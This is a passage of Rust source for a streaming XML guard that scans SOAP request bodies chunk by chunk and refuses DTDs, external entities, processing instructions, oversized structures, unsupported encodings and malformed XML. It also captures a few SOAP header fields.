//! A streaming XML guard for SOAP/XML request bodies.
//!
//! [`Guard`] is fed a request body chunk by chunk while it streams through the gateway to the
//! provider, and refuses it at the first byte that makes it dangerous or malformed. It stops:
//!
//! - **DTDs** (`<!DOCTYPE`, `<!ENTITY`, and any other `<!` that is not a comment or CDATA):
//!   entity expansion ("billion laughs") exhausts the provider's memory, and external entities
//!   (XXE) make it read local files or call internal URLs. No SOAP message needs a DTD. For the
//!   same reason only the five predefined entities and valid character references are accepted.
//! - **Processing instructions** other than the XML declaration: `<?xml-stylesheet?>` and
//!   friends trigger extra processing in some parsers.
//! - **Size bombs**: deep nesting (stack overflows in recursive parsers), many attributes
//!   (quadratic duplicate checks), huge names, attribute values, text nodes and comments, each
//!   bounded by the operator's [`Limits`].
//! - **Encodings the guard cannot see through**: it reads bytes as ASCII. A document in UTF-16
//!   or UTF-7 (where `+ADw-` is `<`) would hide its `<!DOCTYPE` from it, so only UTF-8 and
//!   ASCII-compatible single-byte encodings are accepted.
//! - **Malformed XML**: parsers recover differently from errors, which lets an attacker make
//!   the gateway and the provider see different documents, so nothing malformed is passed on.
//!
//! [`Guard::soap`] also checks that the root is a SOAP 1.1 or 1.2 `Envelope` and captures the
//! few SOAP Header fields the gateway needs ([`SoapHeader`]), in the same pass.
//!
//! # How it works
//!
//! The guard is a byte-level state machine: `State` says where in the XML grammar the last
//! byte left it, and every token that can be split across chunks (a name, a reference, `-->`,
//! `]]>`, ...) is kept as a counter or a small bounded buffer in the state, never as "the rest
//! of the previous chunk". So each byte is examined a constant number of times, whatever the
//! chunking, and the result does not depend on it. Runs of ordinary text, comment, CDATA and
//! attribute bytes are skipped with `memchr`.
//!
//! Memory is bounded by the limits, never by the document: the stack of open element names
//! (at most `max_depth` × `max_name_length` bytes), for a SOAP guard the namespace declarations
//! of the first three levels until the Body starts, and 1 KiB for the header field being read.
//!
//! Not checked, because the provider's parser refuses them without harm: duplicate attributes,
//! the UTF-8 validity of text, and namespace well-formedness beyond what the SOAP capture needs.

use std::fmt;

use memchr::{memchr, memchr3};

const SOAP11_NS: &[u8] = b"http://schemas.xmlsoap.org/soap/envelope/";
const SOAP12_NS: &[u8] = b"http://www.w3.org/2003/05/soap-envelope";
const FSP_NS: &[u8] = b"urn:be:fgov:fsp:1";
const WSA_NS: &[u8] = b"http://www.w3.org/2005/08/addressing";
const WSA_2004_NS: &[u8] = b"http://schemas.xmlsoap.org/ws/2004/08/addressing";
/// The longest SOAP Header field value captured, after trimming.
const MAX_FIELD: usize = 1024;
/// Longer namespace URIs cannot be one of the few the guard cares about.
const MAX_NS_URI: usize = 64;
/// An entity name in an error message is cut after this many bytes.
const MAX_REF_NAME: usize = 32;
/// The XML declaration has three short pseudo-attributes; anything longer is not one.
const MAX_DECL: usize = 256;

/// Per-service limits; each bounds something an attacker could otherwise make huge.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Limits {
    /// Element nesting depth (the root element is at depth 1). Default 64.
    pub max_depth: u32,
    /// Attributes on one element, `xmlns` declarations included. Default 64.
    pub max_attributes: u32,
    /// Bytes in an element or attribute name, prefix included. Default 256.
    pub max_name_length: u32,
    /// Bytes in one attribute value, as written (references not decoded). Default 65 536.
    pub max_attribute_length: u32,
    /// Bytes in one text node, CDATA section or comment, as written. Default 16 MiB.
    pub max_text_length: u64,
}

impl Default for Limits {
    fn default() -> Self {
        Self {
            max_depth: 64,
            max_attributes: 64,
            max_name_length: 256,
            max_attribute_length: 65_536,
            max_text_length: 16 * 1024 * 1024,
        }
    }
}

/// Why a body was refused. The `Display` text is meant for the consumer's developer.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum XmlError {
    /// A DTD or other markup declaration (`<!DOCTYPE`, `<!ENTITY`, ...).
    Doctype,
    /// A processing instruction other than the XML declaration at the very start.
    ProcessingInstruction,
    /// Elements nested deeper than the limit.
    Depth { limit: u32 },
    /// An element with more attributes than the limit.
    Attributes { limit: u32 },
    /// An element or attribute name longer than the limit.
    NameLength { limit: u32 },
    /// An attribute value longer than the limit.
    AttributeLength { limit: u32 },
    /// A text node, CDATA section or comment longer than the limit.
    TextLength { limit: u64 },
    /// A reference other than the predefined entities and valid character references; `name`
    /// is what followed the `&` (cut at 32 bytes).
    EntityReference { name: String },
    /// An encoding the guard cannot check; `found` describes it.
    Encoding { found: String },
    /// Not well-formed XML; `why` says what is wrong.
    NotWellFormed { why: String },
    /// The body ended before the root element was closed.
    Incomplete,
    /// Not the SOAP envelope a SOAP service expects; `why` says what is wrong.
    NotSoap { why: String },
    /// The SOAP Header did not end within the first `limit` bytes.
    HeaderTooLarge { limit: usize },
}

impl fmt::Display for XmlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Doctype => f.write_str(
                "the XML document has a DOCTYPE declaration, which this platform refuses \
                 (DTDs allow entity expansion and external entities)",
            ),
            Self::ProcessingInstruction => f.write_str(
                "the XML document has a processing instruction (<?...?>), which this platform \
                 refuses (only the XML declaration, at the very start, is allowed)",
            ),
            Self::Depth { limit } => write!(f, "elements are nested deeper than {limit} levels"),
            Self::Attributes { limit } => {
                write!(f, "an element has more than {limit} attributes")
            }
            Self::NameLength { limit } => {
                write!(
                    f,
                    "an element or attribute name is longer than {limit} bytes"
                )
            }
            Self::AttributeLength { limit } => {
                write!(f, "an attribute value is longer than {limit} bytes")
            }
            Self::TextLength { limit } => write!(
                f,
                "a text node, CDATA section or comment is longer than {limit} bytes"
            ),
            Self::EntityReference { name } => write!(
                f,
                "the XML document has the reference &{name}; which this platform refuses \
                 (only &lt; &gt; &amp; &apos; &quot; and references to valid XML characters \
                 are allowed)"
            ),
            Self::Encoding { found } => write!(
                f,
                "the XML document's encoding ({found}) is not accepted: send UTF-8 \
                 (US-ASCII, ISO-8859-1 to 15 and windows-1252 are also accepted)"
            ),
            Self::NotWellFormed { why } => write!(f, "the XML document is not well-formed: {why}"),
            Self::Incomplete => f.write_str(
                "the XML document is incomplete: the body ended before its root element was closed",
            ),
            Self::NotSoap { why } => write!(f, "the message is not a valid SOAP envelope: {why}"),
            Self::HeaderTooLarge { limit } => write!(
                f,
                "the SOAP Header does not end within the first {limit} bytes of the message"
            ),
        }
    }
}

impl std::error::Error for XmlError {}

/// The SOAP version, as given by the envelope's namespace.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SoapEnvelope {
    /// `http://schemas.xmlsoap.org/soap/envelope/`
    V11,
    /// `http://www.w3.org/2003/05/soap-envelope`
    V12,
}

/// What the guard found in the SOAP Header (and the Body's first element).
///
/// Fields are read only from direct children of the envelope's `Header`. Their text has its
/// references decoded, CDATA included, surrounding whitespace trimmed, and is `None` if empty.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SoapHeader {
    /// `<Purpose>` in `urn:be:fgov:fsp:1`.
    pub purpose: Option<String>,
    /// `<EndUser>` in `urn:be:fgov:fsp:1`.
    pub end_user: Option<String>,
    /// WS-Addressing `<MessageID>`.
    pub message_id: Option<String>,
    /// WS-Addressing `<Action>`.
    pub action: Option<String>,
    /// WS-Addressing `<To>`.
    pub to: Option<String>,
    /// Local name of the Body's first child element, once the guard has read its start tag.
    pub body_operation: Option<String>,
}

/// The streaming guard; see the module documentation.
#[derive(Clone, Debug)]
pub struct Guard {
    limits: Limits,
    state: State,
    consumed: u64,
    /// The first violation, returned again by every later call.
    error: Option<XmlError>,
    /// Names of the open elements (and of the one whose start tag is being read), end to end;
    /// `starts[i]` is where the name of the element at depth `i + 1` begins.
    names: Vec<u8>,
    starts: Vec<usize>,
    root_closed: bool,
    /// Bytes so far in the current text node, comment, CDATA section or attribute value.
    len: u64,
    /// Attributes so far on the element whose start tag is being read.
    attributes: u32,
    attr_name_len: u32,
    /// The key (64-bit FNV-1a) of the attribute name being read, and those of the
    /// element's attributes already read: an attribute given twice is not XML, and
    /// parsers differ on which one they keep (an `xmlns:soap` given twice, for one).
    attr_key: u64,
    attr_keys: Vec<u64>,
    /// Past [`FEW_ATTRIBUTES`] attributes, their keys in a set (linear time however many
    /// the limits allow).
    attr_set: std::collections::HashSet<u64, std::hash::BuildHasherDefault<KeyHasher>>,
    reference: Reference,
    /// The XML declaration's pseudo-attributes, checked once `?>` is read.
    decl: Vec<u8>,
    /// The document is UTF-8 (neither its `Content-Type` nor its XML declaration names
    /// another encoding): its bytes must be valid UTF-8, or a lenient parser could read
    /// markup the scan did not see (an overlong `<`). `None`: another encoding, in which
    /// every byte is a character.
    utf8: Option<Utf8>,
    /// Whether the `Content-Type` said the charset is UTF-8 (`None`: it said none), and
    /// whether the body began with a UTF-8 byte order mark.
    said_utf8: Option<bool>,
    bom: bool,
    soap: Option<Soap>,
    /// Bytes examined (by `memchr` or one by one), for the linearity test.
    #[cfg(test)]
    examined: u64,
}

/// Where the last byte left the scanner. "Content" is inside the root element.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum State {
    /// Before the first byte, or right after a UTF-8 BOM (`bom`).
    Start {
        bom: bool,
    },
    /// `n` bytes of the UTF-8 BOM read.
    Bom(u8),
    /// Outside the root element: only whitespace and markup.
    Misc,
    /// After `<`; `decl`: at the very start, where the XML declaration may follow.
    Lt {
        decl: bool,
    },
    /// After `<?`, `n` bytes of `xml` matched (XML declaration only).
    DeclTarget(u8),
    /// Inside the XML declaration.
    Decl,
    /// After `?` in the XML declaration.
    DeclQuestion,
    /// After `<!`, `n` bytes of `--` (or of `[CDATA[` if `cdata`) matched.
    Bang {
        cdata: bool,
        n: u8,
    },
    /// Inside a comment, then after one or two `-`.
    Comment,
    CommentDash(u8),
    /// Inside a CDATA section, then after one or two (or more) `]`.
    CData,
    CDataBracket(u8),
    /// Reading an element's name after `<`.
    StartName,
    /// In a start tag between attributes; `ws`: whitespace since the last attribute.
    InTag {
        ws: bool,
    },
    /// After `/` in a start tag: `>` must follow.
    EmptySlash,
    AttrName,
    AfterAttrName,
    BeforeValue,
    AttrValue {
        quote: u8,
    },
    /// Reading an end tag's name; `matched` bytes equal the open element's name.
    EndName {
        matched: usize,
    },
    /// After an end tag's name: whitespace, then `>`.
    EndWs,
    /// Text content; `TextBracket(n)` after `n` `]` (because `]]>` is not allowed in text).
    Text,
    TextBracket(u8),
    /// Inside a reference after `&`, in text (`quote == 0`) or an attribute value.
    Ref {
        quote: u8,
    },
}

/// A reference being read: `&name;`, `&#123;` or `&#x7B;`.
#[derive(Clone, Debug, Default)]
struct Reference {
    kind: RefKind,
    value: u32,
    digits: bool,
    /// What followed the `&`, for the error message and the predefined names.
    raw: Vec<u8>,
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum RefKind {
    #[default]
    Start,
    Name,
    Hash,
    Dec,
    Hex,
}

/// The namespaces the SOAP capture cares about; every other URI is `Other`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Ns {
    None,
    Soap11,
    Soap12,
    Fsp,
    Wsa,
    Other,
}

/// A namespace declaration in scope: `xmlns:prefix` (or `xmlns` if empty) on an element.
#[derive(Clone, Debug)]
struct Binding {
    depth: usize,
    prefix: Vec<u8>,
    ns: Ns,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Field {
    Purpose,
    EndUser,
    MessageId,
    Action,
    To,
}

impl Field {
    fn name(self) -> &'static str {
        match self {
            Self::Purpose => "Purpose",
            Self::EndUser => "EndUser",
            Self::MessageId => "MessageID",
            Self::Action => "Action",
            Self::To => "To",
        }
    }
}

/// SOAP expectations and the Header capture.
#[derive(Clone, Debug)]
struct Soap {
    header_limit: usize,
    version: Option<SoapEnvelope>,
    /// Declarations in scope, tracked only until the Body starts, at depth <= 3 (the
    /// Header's children) while the Header may still come, then <= 2 (to recognise Body).
    bindings: Vec<Binding>,
    /// The Body started or the envelope ended: namespaces no longer matter.
    past_body: bool,
    /// The attribute being read is a namespace declaration; its name and (decoded) value.
    ns_decl: bool,
    attr_name: Vec<u8>,
    ns_value: Vec<u8>,
    in_header: bool,
    in_body: bool,
    body_seen: bool,
    /// The Envelope's Body was opened: no other child of the Envelope may follow.
    body_opened: bool,
    /// The Header ended, the Body started, or the envelope ended.
    done: bool,
    /// Fields already met, so that a duplicate is refused rather than silently picked.
    seen: Vec<Field>,
    capture: Option<Field>,
    value: Vec<u8>,
    header: SoapHeader,
}

impl Guard {
    /// Plain XML guard (no SOAP expectations).
    pub fn new(limits: Limits) -> Self {
        Self {
            limits,
            state: State::Start { bom: false },
            consumed: 0,
            error: None,
            names: Vec::new(),
            starts: Vec::new(),
            root_closed: false,
            len: 0,
            attributes: 0,
            attr_name_len: 0,
            attr_key: FNV_OFFSET,
            attr_keys: Vec::new(),
            attr_set: Default::default(),
            reference: Reference::default(),
            decl: Vec::new(),
            utf8: Some(Utf8::default()),
            said_utf8: None,
            bom: false,
            soap: None,
            #[cfg(test)]
            examined: 0,
        }
    }

    /// A guard that also expects a SOAP 1.1 or 1.2 `Envelope` as the root (else `NotSoap`) and
    /// captures the Header fields. If the Header has not ended (nor the Body begun) within
    /// `header_limit` bytes, `feed` returns `HeaderTooLarge` when byte `header_limit + 1` is fed.
    pub fn soap(limits: Limits, header_limit: usize) -> Self {
        let mut guard = Self::new(limits);
        guard.soap = Some(Soap {
            header_limit,
            version: None,
            bindings: Vec::new(),
            past_body: false,
            ns_decl: false,
            attr_name: Vec::new(),
            ns_value: Vec::new(),
            in_header: false,
            in_body: false,
            body_seen: false,
            body_opened: false,
            done: false,
            seen: Vec::new(),
            capture: None,
            value: Vec::new(),
            header: SoapHeader::default(),
        });
        guard
    }

    /// What the body's `Content-Type` says of its charset ([`said_charset`]): another
    /// than UTF-8 means its bytes are not checked as UTF-8; and an XML declaration or a
    /// byte order mark that says otherwise is refused (parsers differ on which wins).
    pub fn charset_said(&mut self, utf8: Option<bool>) {
        self.said_utf8 = utf8;
        if utf8 == Some(false) {
            self.utf8 = None;
        }
    }

    /// Feeds the next bytes. Returns the first violation, and keeps returning it afterwards.
    pub fn feed(&mut self, chunk: &[u8]) -> Result<(), XmlError> {
        if let Some(e) = &self.error {
            return Err(e.clone());
        }
        let result = self.scan_checked(chunk);
        if let Err(e) = &result {
            self.error = Some(e.clone());
        }
        result
    }

    /// Scans what is valid UTF-8 (when the document is UTF-8): the scan sees a character
    /// only once it is whole and valid, so a violation is found at the same byte however
    /// the document is cut. The scan reads the XML declaration, which may name another
    /// encoding: from there on, bytes go to the scan unchecked.
    fn scan_checked(&mut self, mut chunk: &[u8]) -> Result<(), XmlError> {
        let Some(utf8) = self.utf8.as_mut() else {
            return self.scan(chunk);
        };
        if utf8.len > 0 {
            let width = match utf8.held[0] {
                0xC2..=0xDF => 2,
                0xE0..=0xEF => 3,
                _ => 4,
            };
            let take = (width - utf8.len).min(chunk.len());
            utf8.held[utf8.len..utf8.len + take].copy_from_slice(&chunk[..take]);
            utf8.len += take;
            chunk = &chunk[take..];
            let (held, len) = (utf8.held, utf8.len);
            // A start that can no longer be a character is invalid now, whole or not.
            let invalid = std::str::from_utf8(&held[..len])
                .err()
                .is_some_and(|e| e.error_len().is_some());
            if len < width && !invalid {
                return Ok(());
            }
            utf8.len = 0;
            if invalid {
                return self.invalid_at(&held[..len]);
            }
            self.scan(&held[..width])?;
        }
        let Err(e) = std::str::from_utf8(chunk) else {
            return self.scan(chunk);
        };
        let (valid, rest) = chunk.split_at(e.valid_up_to());
        self.scan(valid)?;
        match (&mut self.utf8, e.error_len()) {
            (None, _) => self.scan(rest),
            // Cut at the end of the piece (at most 3 bytes of a valid start): held.
            (Some(utf8), None) => {
                utf8.held[..rest.len()].copy_from_slice(rest);
                utf8.len = rest.len();
                Ok(())
            }
            (Some(_), Some(_)) => self.invalid_at(rest),
        }
    }

    /// An invalid UTF-8 sequence starts `rest`. At the very start of the document the
    /// scan judges it (another encoding's byte order mark, UTF-16, ...: it names what it
    /// cannot read); anywhere else it is not UTF-8.
    fn invalid_at(&mut self, rest: &[u8]) -> Result<(), XmlError> {
        if self.consumed == 0 {
            self.scan(rest)?;
        }
        self.consumed += 1;
        Err(not_wf(
            "it is not valid UTF-8 (and names no other encoding)",
        ))
    }

    /// The end of the body: `Ok` only if exactly one root element was opened and closed
    /// (trailing whitespace and comments allowed), else `Incomplete` (or the earlier error).
    pub fn finish(&mut self) -> Result<(), XmlError> {
        if let Some(e) = &self.error {
            return Err(e.clone());
        }
        if self.utf8.as_ref().is_some_and(|u| u.len > 0) {
            let e = not_wf("it ends inside a UTF-8 character");
            self.error = Some(e.clone());
            return Err(e);
        }
        if self.root_closed && self.state == State::Misc {
            return Ok(());
        }
        self.error = Some(XmlError::Incomplete);
        Err(XmlError::Incomplete)
    }

    /// Bytes fed so far. After an error: up to and including the byte where it was found.
    pub fn consumed(&self) -> u64 {
        self.consumed
    }

    /// For a SOAP guard, once the Header has ended, the Body has started or the envelope has
    /// ended: what was found. `None` before, and always for a plain guard. `body_operation`
    /// is filled in later, when the start tag of the Body's first child has been read.
    pub fn soap_header(&self) -> Option<&SoapHeader> {
        self.soap.as_ref().filter(|s| s.done).map(|s| &s.header)
    }

    /// Whether the root element has been closed (only trailing white space, comments or
    /// the end may follow).
    pub fn root_closed(&self) -> bool {
        self.root_closed
    }

    /// The SOAP version of the envelope's namespace, once the root start tag has been read.
    pub fn soap_version(&self) -> Option<SoapEnvelope> {
        self.soap.as_ref().and_then(|s| s.version)
    }

    // Why the cost is linear: `scan` hands the rest of the chunk to `step`, which either
    // consumes a run of bytes that need no decision (found with memchr or a simple loop, each
    // byte examined once) or handles one byte in O(1): every buffer it touches is bounded by
    // the limits and only appended to, or compared at one position. A handler may ask for its
    // byte to be handled again ("0 consumed"), but only after moving to a state that consumes
    // it, so a byte is handled at most twice. Partial tokens live in `State` as counters, so
    // nothing is ever re-read from the start of a chunk or of a token.
    fn scan(&mut self, chunk: &[u8]) -> Result<(), XmlError> {
        let mut rest = chunk;
        while !rest.is_empty() {
            let mut window = rest;
            if let Some(soap) = self.soap.as_ref().filter(|s| !s.done) {
                let room = (soap.header_limit as u64).saturating_sub(self.consumed);
                if room == 0 {
                    self.consumed += 1;
                    return Err(XmlError::HeaderTooLarge {
                        limit: soap.header_limit,
                    });
                }
                // Stop the fast paths at the limit, so the error falls on the same byte
                // however the body is chunked.
                let room = usize::try_from(room).unwrap_or(usize::MAX);
                window = &rest[..rest.len().min(room)];
            }
            match self.step(window) {
                Ok(n) => {
                    self.consumed += n as u64;
                    rest = &rest[n..];
                }
                Err(e) => {
                    self.consumed += 1;
                    return Err(e);
                }
            }
        }
        Ok(())
    }

    /// Consumes ordinary bytes in bulk, else handles the first byte. Returns bytes consumed.
    fn step(&mut self, window: &[u8]) -> Result<usize, XmlError> {
        let n = self.fast(window);
        #[cfg(test)]
        {
            // The run, plus the byte that ended it (examined again below if n == 0).
            self.examined += (n + 1).min(window.len()) as u64;
        }
        if n > 0 {
            return Ok(n);
        }
        match window.first() {
            Some(&b) => self.byte(b),
            None => Ok(0),
        }
    }

    /// Consumes a run of bytes that need no decision of their own (text, names, whitespace
    /// in markup) in one go. It never fails: it stops before a control character or the byte
    /// that would exceed a limit, and `byte` reports it. 0: `byte` must handle the next byte.
    fn fast(&mut self, window: &[u8]) -> usize {
        let text = self.limits.max_text_length;
        match self.state {
            // A captured Header field's text is copied byte by byte, see `Soap::capture_byte`.
            State::Text | State::CData if self.capturing() => 0,
            State::Text => self.skip_content(window, memchr3(b'<', b'&', b']', window), text),
            State::CData => self.skip_content(window, memchr(b']', window), text),
            State::Comment => self.skip_content(window, memchr(b'-', window), text),
            State::AttrValue { quote } => {
                let stop = memchr3(quote, b'<', b'&', window);
                let n = self.skip_content(window, stop, self.limits.max_attribute_length.into());
                if let Some(soap) = self.soap.as_mut().filter(|s| s.ns_decl) {
                    window[..n].iter().for_each(|&b| soap.push_ns_byte(b));
                }
                n
            }
            State::StartName => {
                let len = self.names.len() - self.starts.last().copied().unwrap_or(0);
                let room = (self.limits.max_name_length as usize).saturating_sub(len);
                let n = name_run(window).min(room);
                self.names.extend_from_slice(&window[..n]);
                n
            }
            State::AttrName => {
                let room = self
                    .limits
                    .max_name_length
                    .saturating_sub(self.attr_name_len);
                let n = name_run(window).min(room as usize);
                self.attr_name_len += n as u32;
                self.attr_key = window[..n].iter().fold(self.attr_key, fnv);
                let tracking = self.tracking();
                if let Some(soap) = self.soap.as_mut().filter(|_| tracking && n > 0) {
                    soap.attr_name.extend_from_slice(&window[..n]);
                    soap.ns_decl = is_ns_declaration(&soap.attr_name);
                }
                n
            }
            State::EndName { matched } => {
                let start = self.starts.last().copied().unwrap_or(0);
                let expected = self.names.get(start + matched..).unwrap_or_default();
                let n = window
                    .iter()
                    .zip(expected)
                    .take_while(|(a, b)| a == b)
                    .count();
                self.state = State::EndName {
                    matched: matched + n,
                };
                n
            }
            State::InTag { .. } => {
                let n = window.iter().take_while(|&&b| is_ws(b)).count();
                if n > 0 {
                    self.state = State::InTag { ws: true };
                }
                n
            }
            State::Misc | State::AfterAttrName | State::BeforeValue | State::EndWs => {
                window.iter().take_while(|&&b| is_ws(b)).count()
            }
            _ => 0,
        }
    }

    /// Skips content up to `stop` (the next byte that needs a decision), but not past a
    /// control character or the limit.
    fn skip_content(&mut self, window: &[u8], stop: Option<usize>, limit: u64) -> usize {
        let run = &window[..stop.unwrap_or(window.len())];
        let plain = run.iter().position(|&b| is_control(b)).unwrap_or(run.len());
        let room = usize::try_from(limit.saturating_sub(self.len)).unwrap_or(usize::MAX);
        let n = plain.min(room);
        self.len += n as u64;
        n
    }

    /// Handles one byte. Returns 1, or 0 after switching to a state that must see it again.
    fn byte(&mut self, b: u8) -> Result<usize, XmlError> {
        let very_start = matches!(self.state, State::Start { bom: false } | State::Bom(_));
        if !very_start && is_control(b) {
            return Err(not_wf(format!(
                "it contains the control character 0x{b:02X}, which XML does not allow"
            )));
        }
        match self.state {
            State::Start { bom } => match b {
                0xEF if !bom => self.state = State::Bom(1),
                b'<' => self.state = State::Lt { decl: true },
                _ if is_ws(b) => self.state = State::Misc,
                _ if bom => return Err(not_wf("it has text before the root element")),
                0xFE | 0xFF => return Err(encoding("UTF-16 or UTF-32, by its byte order mark")),
                0 => return Err(encoding("UTF-16 or UTF-32, as it starts with a NUL byte")),
                _ => {
                    return Err(encoding(&format!(
                        "unknown: the body starts with byte 0x{b:02X} instead of '<'"
                    )));
                }
            },
            State::Bom(n) => {
                if b != [0xEF, 0xBB, 0xBF][usize::from(n)] {
                    return Err(encoding("unknown: not a UTF-8 byte order mark"));
                }
                self.state = if n == 2 {
                    self.bom = true;
                    State::Start { bom: true }
                } else {
                    State::Bom(n + 1)
                };
            }
            State::Misc => match b {
                b'<' => self.state = State::Lt { decl: false },
                _ if is_ws(b) => {}
                _ if self.root_closed => return Err(not_wf("it has text after the root element")),
                _ => return Err(not_wf("it has text before the root element")),
            },
            State::Lt { decl } => self.after_lt(b, decl)?,
            State::DeclTarget(n) => {
                if n < 3 && b == b"xml"[usize::from(n)] {
                    self.state = State::DeclTarget(n + 1);
                } else if n == 3 && is_ws(b) {
                    self.state = State::Decl;
                } else {
                    return Err(XmlError::ProcessingInstruction);
                }
            }
            State::Decl => {
                if b == b'?' {
                    self.state = State::DeclQuestion;
                } else if self.decl.len() < MAX_DECL {
                    self.decl.push(b);
                } else {
                    return Err(not_wf("its XML declaration is too long"));
                }
            }
            State::DeclQuestion => {
                if b != b'>' {
                    return Err(not_wf("its XML declaration is malformed"));
                }
                if let Some(utf8) = check_declaration(&self.decl)? {
                    let bom = self.bom;
                    if self.said_utf8.is_some_and(|said| said != utf8) || (bom && !utf8) {
                        return Err(not_wf(if bom {
                            "its byte order mark says UTF-8 and its XML declaration another encoding"
                        } else {
                            "its Content-Type's charset and its XML declaration's encoding differ"
                        }));
                    }
                    if !utf8 {
                        self.utf8 = None;
                    }
                }
                self.decl = Vec::new();
                self.state = State::Misc;
            }
            State::Bang { cdata, n } => self.after_bang(b, cdata, n)?,
            State::Comment => {
                if b == b'-' {
                    self.state = State::CommentDash(1);
                } else {
                    self.count(self.limits.max_text_length)?;
                }
            }
            State::CommentDash(1) => {
                if b == b'-' {
                    self.state = State::CommentDash(2);
                } else {
                    // The dash was content after all; the byte is handled again as content.
                    self.count(self.limits.max_text_length)?;
                    self.state = State::Comment;
                    return Ok(0);
                }
            }
            State::CommentDash(_) => {
                if b != b'>' {
                    return Err(not_wf("a comment contains '--'"));
                }
                self.end_markup();
            }
            State::CData => {
                if b == b']' {
                    self.state = State::CDataBracket(1);
                } else {
                    self.text_byte(b)?;
                }
            }
            State::CDataBracket(n) => match b {
                b']' if n == 1 => self.state = State::CDataBracket(2),
                // `]]]`: the first bracket is content, the last two may still end the section.
                b']' => self.text_byte(b']')?,
                b'>' if n == 2 => self.end_markup(),
                _ => {
                    for _ in 0..n {
                        self.text_byte(b']')?;
                    }
                    self.state = State::CData;
                    return Ok(0);
                }
            },
            State::StartName => match b {
                _ if is_name_char(b) => self.element_name_byte(b)?,
                b'>' => self.open_element(false)?,
                b'/' => self.state = State::EmptySlash,
                _ if is_ws(b) => self.state = State::InTag { ws: true },
                _ => return Err(not_wf("an element name has an invalid character")),
            },
            State::InTag { ws } => match b {
                b'>' => self.open_element(false)?,
                b'/' => self.state = State::EmptySlash,
                _ if is_ws(b) => self.state = State::InTag { ws: true },
                _ if is_name_start(b) && !ws => {
                    return Err(not_wf("attributes are not separated by whitespace"));
                }
                _ if is_name_start(b) => self.begin_attribute(b)?,
                _ => return Err(not_wf("a start tag has an invalid character")),
            },
            State::EmptySlash => {
                if b != b'>' {
                    return Err(not_wf("'/' in a start tag is not followed by '>'"));
                }
                self.open_element(true)?;
            }
            State::AttrName => match b {
                _ if is_name_char(b) => self.attribute_name_byte(b)?,
                b'=' => {
                    self.end_attribute_name()?;
                    self.state = State::BeforeValue;
                }
                _ if is_ws(b) => {
                    self.end_attribute_name()?;
                    self.state = State::AfterAttrName;
                }
                _ => return Err(not_wf("an attribute name has an invalid character")),
            },
            State::AfterAttrName => match b {
                b'=' => self.state = State::BeforeValue,
                _ if is_ws(b) => {}
                _ => return Err(not_wf("an attribute has no value")),
            },
            State::BeforeValue => match b {
                b'"' | b'\'' => {
                    self.len = 0;
                    self.state = State::AttrValue { quote: b };
                }
                _ if is_ws(b) => {}
                _ => return Err(not_wf("an attribute value is not quoted")),
            },
            State::AttrValue { quote } => match b {
                _ if b == quote => self.end_attribute(),
                b'<' => return Err(not_wf("an attribute value contains '<'")),
                b'&' => {
                    self.count(u64::from(self.limits.max_attribute_length))?;
                    self.reference = Reference::default();
                    self.state = State::Ref { quote };
                }
                _ => {
                    self.count(u64::from(self.limits.max_attribute_length))?;
                    if let Some(soap) = self.soap.as_mut().filter(|s| s.ns_decl) {
                        soap.push_ns_byte(b);
                    }
                }
            },
            State::EndName { matched } => {
                let name = &self.names[self.starts.last().copied().unwrap_or(0)..];
                if is_name_char(b) && name.get(matched) == Some(&b) {
                    self.state = State::EndName {
                        matched: matched + 1,
                    };
                } else if matched == name.len() && is_ws(b) {
                    self.state = State::EndWs;
                } else if matched == name.len() && b == b'>' {
                    self.close_element()?;
                } else {
                    return Err(not_wf(format!(
                        "an end tag does not match the start tag <{}>",
                        String::from_utf8_lossy(name)
                    )));
                }
            }
            State::EndWs => match b {
                b'>' => self.close_element()?,
                _ if is_ws(b) => {}
                _ => return Err(not_wf("an end tag has an invalid character")),
            },
            State::Text => match b {
                b'<' => self.state = State::Lt { decl: false },
                b'&' => {
                    self.count(self.limits.max_text_length)?;
                    self.reference = Reference::default();
                    self.state = State::Ref { quote: 0 };
                }
                b']' => {
                    self.text_byte(b)?;
                    self.state = State::TextBracket(1);
                }
                _ => self.text_byte(b)?,
            },
            State::TextBracket(n) => match b {
                b']' => {
                    self.text_byte(b)?;
                    self.state = State::TextBracket(2);
                }
                b'>' if n == 2 => return Err(not_wf("text contains ']]>'")),
                _ => {
                    self.state = State::Text;
                    return Ok(0);
                }
            },
            State::Ref { quote } => self.reference_byte(b, quote)?,
        }
        Ok(1)
    }

    /// The byte after `<`: what kind of markup this is.
    fn after_lt(&mut self, b: u8, decl: bool) -> Result<(), XmlError> {
        match b {
            b'?' if decl => self.state = State::DeclTarget(0),
            b'?' => return Err(XmlError::ProcessingInstruction),
            b'!' => self.state = State::Bang { cdata: false, n: 0 },
            b'/' if self.starts.is_empty() => {
                return Err(not_wf("it has an end tag outside the root element"));
            }
            b'/' => self.state = State::EndName { matched: 0 },
            _ if is_name_start(b) => {
                if self.root_closed {
                    return Err(not_wf("it has a second root element"));
                }
                if self.starts.len() >= self.limits.max_depth as usize {
                    return Err(XmlError::Depth {
                        limit: self.limits.max_depth,
                    });
                }
                self.starts.push(self.names.len());
                self.attributes = 0;
                self.attr_keys.clear();
                if !self.attr_set.is_empty() {
                    self.attr_set.clear();
                }
                self.state = State::StartName;
                self.element_name_byte(b)?;
            }
            _ => return Err(not_wf("'<' is not followed by a name, '/', '!' or '?'")),
        }
        Ok(())
    }

    /// The bytes after `<!`: only `<!--` and `<![CDATA[` are allowed.
    fn after_bang(&mut self, b: u8, cdata: bool, n: u8) -> Result<(), XmlError> {
        let cdata = if n == 0 { b == b'[' } else { cdata };
        let expected: &[u8] = if cdata { b"[CDATA[" } else { b"--" };
        if b != expected[usize::from(n)] {
            // `<!DOCTYPE`, `<!ENTITY`, `<![INCLUDE[`, ...: all DTD syntax.
            return Err(XmlError::Doctype);
        }
        let n = n + 1;
        // A comment inside a Header field splits its text in two for some readers.
        if !cdata && usize::from(n) == expected.len() && self.capturing() {
            return Err(self.mixed_field());
        }
        self.state = if usize::from(n) < expected.len() {
            State::Bang { cdata, n }
        } else if !cdata {
            State::Comment
